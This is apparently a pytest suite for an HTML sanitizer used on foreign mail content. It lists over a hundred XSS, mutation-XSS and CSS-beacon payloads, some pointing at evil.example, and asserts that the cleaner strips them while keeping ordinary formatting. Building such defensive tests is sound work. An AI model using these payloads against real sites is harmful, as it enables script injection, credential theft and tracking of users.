"""Foreign HTML runs nothing and calls nobody, and keeps its words (P32)."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dreiklang.kernel.html_cleaning import clean_html

PAYLOADS = [
    # scripts and their many doors
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0ctype=text/javascript>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><style></math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<object type=text/x-scriptlet data=https://evil.example/></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf allowscriptaccess=always>",
    "<applet code=x></applet>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<base href=https://evil.example/>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=import href=data:text/html,x>",
    # event attributes
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<body onload=alert(1)>x</body>",
    "<div onmouseover=alert(1)>x</div>",
    "<p onclick=alert(1) ONFOCUS=alert(1) tabindex=1 autofocus>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea onfocus=alert(1) autofocus>x</textarea>",
    "<keygen onfocus=alert(1) autofocus>",
    "<a href=# onanimationend=alert(1) style='animation:x 1s'>x</a>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    # links
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='\u200bjavascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=livescript:x>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<a href=blob:https://evil.example/x>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=view-source:javascript:x>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=/admin/delete>x</a>",
    "<a href=\\\\evil.example\\share>x</a>",
    "<a href=https:/evil.example>x</a>",
    "<a ping=https://evil.example href=https://ok.example>x</a>",
    "<area href=javascript:alert(1)>",
    "<map name=x><area href=javascript:alert(1)></map>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<q cite=javascript:alert(1)>x</q>",
    # pictures and styles that call somebody
    "<img src=https://evil.example/pixel.gif>",
    "<img src=http://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=\\\\evil.example/pixel.gif>",
    "<img src='/\\evil.example/pixel.gif'>",
    "<img src='ht\ntps://evil.example/pixel.gif'>",
    "<img srcset='https://evil.example/a 1x, //evil.example/b 2x'>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=data:text/html,x>",
    "<img src=javascript:alert(1)>",
    "<img lowsrc=https://evil.example/x dynsrc=https://evil.example/y longdesc=https://evil.example/z>",
    "<picture><source srcset=https://evil.example/x></picture>",
    "<input type=image src=https://evil.example/x>",
    "<video poster=https://evil.example/x></video>",
    "<audio><track src=https://evil.example/x></audio>",
    "<table background=https://evil.example/x><tr><td background=//evil.example/y>x</table>",
    "<body background=https://evil.example/x>x",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background-image:url(//evil.example/x)'>x</div>",
    "<div style='background:u\\72l(https://evil.example/x)'>x</div>",
    "<div style='background:/**/url(https://evil.example/x)'>x</div>",
    "<div style='background:URL(\"https://evil.example/x\")'>x</div>",
    "<div style='background:image-set(\"https://evil.example/x\" 1x)'>x</div>",
    "<div style='background:image(\"https://evil.example/x\")'>x</div>",
    "<div style='background:-webkit-cross-fade(url(https://evil.example/x),50%)'>x</div>",
    "<div style='list-style:url(https://evil.example/x)'>x</div>",
    "<div style='content:url(https://evil.example/x)'>x</div>",
    "<div style='cursor:url(https://evil.example/x),auto'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(https://evil.example/x#y)'>x</div>",
    "<div style='font-family:x;src:url(https://evil.example/x)'>x</div>",
    "<div style='--x:url(https://evil.example/x);background:var(--x)'>x</div>",
    "<div style='width:calc(1px + attr(x))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<style><!--</style><script>alert(1)</script>--></style>",
    "<p style='color:red;}</style><script>alert(1)</script>'>x",
    # parsers at odds
    "<!--<img src=x --!><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1.0?><?php x ?><script>alert(1)</script>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><script>alert(1)</script>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<a title='</a><script>alert(1)</script>'>x</a>",
    "<p/onclick=alert(1)>x",
    "<x onclick=alert(1)>x</x>",
    "<a\x00 href=javascript:alert(1)>x</a>",
    "\ufeff<script>alert(1)</script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<div id=location name=cookie class=admin>x</div>",
    "<a name=x id=getElementById href=https://ok.example>x</a>",
    "<dialog open>x</dialog><slot name=x></slot><portal src=https://evil.example></portal>",
    "<esi:include src=https://evil.example/x/>",
]  # fmt: skip


class _Inspector(HTMLParser):
    """Reads the result with another parser and collects what it must not hold."""

    FORBIDDEN = frozenset(
        [
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "link",
            "meta",
            "base",
            "video",
            "template",
        ]
    )

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.FORBIDDEN:
            self.faults.append(tag)
        for name, value in attrs:
            text = (value or "").lower()
            if name.startswith("on") or name in {
                "id",
                "name",
                "class",
                "srcset",
                "background",
                "srcdoc",
                "formaction",
                "ping",
            }:
                self.faults.append(f"{tag} {name}")
            if name == "href" and not re.match(r"(https?://|mailto:|tel:)", text):
                self.faults.append(f"href {text}")
            if name == "src" and not re.match(r"(/files/|data:image/(png|jpe?g|gif|webp);base64,)", text):
                self.faults.append(f"src {text}")
            if name == "style" and re.search(r"url|expression|import|\\|//|/\*|position|@|image|var\(|attr\(", text):
                self.faults.append(f"style {text}")

    def handle_comment(self, data: str) -> None:
        self.faults.append("comment")

    def handle_pi(self, data: str) -> None:
        self.faults.append("processing instruction")


def faults_of(html: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.faults


@pytest.mark.parametrize("payload", PAYLOADS)
def test_p32_a_payload_runs_nothing_and_calls_nobody(payload: str) -> None:
    for html in (payload, f"<div>{payload}</div>", f"<table><tr><td>{payload}", f"<p title='{payload}'>x"):
        assert faults_of(clean_html(html, inline={"a@b": "/files/1"}).html) == []


def test_p32_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 100


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [*PAYLOADS, "<", ">", "'", '"', "<p>", "</p>", "<!--", "-->", "<svg>", "</style>", "&lt;", "\x00"]
        )
        | st.text(max_size=8),
        max_size=12,
    ).map("".join)
)
def test_p32_no_mixture_of_payloads_gets_through(html: str) -> None:
    assert faults_of(clean_html(html).html) == []


def test_p32_cleaning_twice_changes_nothing_dangerous() -> None:
    for payload in PAYLOADS:
        once = clean_html(payload).html
        assert faults_of(clean_html(once).html) == []


@pytest.mark.parametrize(
    ("html", "count"),
    [
        ("<img src=https://evil.example/a><img src=//evil.example/b>", 2),
        ("<p style='background:url(https://evil.example/a)'>x", 1),
        ("<table background=https://evil.example/a><tr><td>x", 1),
        ("<img src=cid:fehlt>", 0),
        ("<p>nichts</p>", 0),
    ],
)
def test_pictures_from_elsewhere_are_counted_and_left_out(html: str, count: int) -> None:
    cleaned = clean_html(html)
    assert cleaned.blocked_remote_count == count
    assert "evil.example" not in cleaned.html


def test_pictures_from_elsewhere_are_shown_when_asked_for() -> None:
    cleaned = clean_html('<img src="https://ok.example/a.png"><img src=//ok.example/b>', allow_remote=True)
    assert 'src="https://ok.example/a.png"' in cleaned.html
    assert "//ok.example/b" not in cleaned.html


def test_pictures_that_came_along_are_shown_from_here() -> None:
    html = '<img src="cid:image001.png@01DA.77" alt="Fehler"><img src="CID:a%2Fb"><img src="cid:fremd">'
    cleaned = clean_html(html, inline={"image001.png@01DA.77": "/files/7", "a/b": "/files/8"})
    assert 'src="/files/7"' in cleaned.html
    assert 'src="/files/8"' in cleaned.html
    assert "fremd" not in cleaned.html
    assert cleaned.blocked_remote_count == 0


def test_small_pictures_in_the_text_are_kept() -> None:
    source = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg=="
    assert source in clean_html(f'<img src="{source}">').html


def test_words_and_their_look_are_kept() -> None:
    html = (
        "<h2>Störung</h2><p style=\"color: red; font-family: 'Segoe UI', sans-serif\">Der <b>Server</b> steht.</p>"
        '<ul><li>seit 8 Uhr</li></ul><table border="1"><tr><td colspan="2">Raum 12</td></tr></table>'
        '<blockquote type="cite">Zitat</blockquote><a href="https://status.example/?a=1&amp;b=2">Status</a>'
    )
    cleaned = clean_html(html).html
    for kept in (
        "<h2>Störung</h2>",
        "color: red",
        "Segoe UI",
        "<b>Server</b>",
        "<li>",
        'colspan="2"',
        "Zitat",
        "?a=1&amp;b=2",
    ):
        assert kept in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned


def test_every_usual_property_of_a_style_is_kept() -> None:
    style = (
        "border-radius: 3px; border-left-style: solid; background-color: rgb(1, 2, 3); margin: 0 auto; line-height: 1.5"
    )
    assert style in clean_html(f'<p style="{style}">x</p>').html


@pytest.mark.parametrize(
    "unit", ["<b>", "<div>", "<a href=x>", "<table>", "<", "<!--", "<p>x", "<font><i>", '<p style="a:b">', "<ul><li>"]
)
def test_p04_a_million_characters_are_cleaned_in_time(unit: str) -> None:
    html = "Anfang " + unit * (1_000_000 // len(unit))
    started = time.process_time()
    cleaned = clean_html(html).html
    assert time.process_time() - started < 8
    assert faults_of(cleaned[:100_000].rpartition("<")[0]) == []
    assert "Anfang" in cleaned


def test_deep_nesting_keeps_its_words() -> None:
    cleaned = clean_html("<div>" * 5_000 + "innen").html
    assert "innen" in cleaned
    assert cleaned.count("<div>") == 0
